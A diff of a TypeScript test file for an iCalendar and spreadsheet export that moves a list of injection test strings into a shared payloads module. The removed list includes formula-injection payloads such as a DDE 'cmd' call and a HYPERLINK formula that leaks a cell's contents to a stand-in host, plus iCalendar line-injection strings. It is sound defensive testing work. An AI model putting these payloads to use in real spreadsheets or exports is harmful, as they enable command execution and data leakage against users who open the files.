@@ -13,7 +13,7 @@ import { divSnippet, elementSnippet, frameSnippet, type Target } from '../../src
 import { DEFAULTS, stateOf, WIDGETS, type State } from '../../src/site/workshop/state.js';
 import * as french from '../../src/text/fr.js';
 import { everyText } from '../support/every-text.js';
-import { ADDRESSES, naughtyStrings, PAYLOADS } from '../support/payloads.js';
+import { ADDRESSES, FORMULAS, naughtyStrings, PAYLOADS } from '../support/payloads.js';
 
 /** Ways into a line of an iCalendar file. */
 const LINES = [
@@ -25,28 +25,6 @@ const LINES = [
   'x\u2028BEGIN:VALARM',
   '"; X-Y=";:,\\',
   `${'é'.repeat(30)}\r\n ATTACH:x`,
-];
-/** What spreadsheets take for a formula, or for more than a cell. */
-const FORMULAS = [
-  '=1+1',
-  '+33 1',
-  '-1+1',
-  '@SUM(A1)',
-  '=cmd|"/C calc"!A0',
-  '=HYPERLINK("https://x.example?"&A1)',
-  '=1+1\nx',
-  '\n=1',
-  '\t=1',
-  '\r=1',
-  ' =1',
-  '\u00a0=1',
-  '\0=1',
-  '＝1',
-  '＠SUM(A1)',
-  '";=1',
-  ';=1;',
-  'x\r\n=1;=1',
-  "'=1",
 ];
 const TEXTS = [...LINES, ...FORMULAS, ...PAYLOADS, ...(await naughtyStrings())].filter((text) => /\S/.test(text));
 
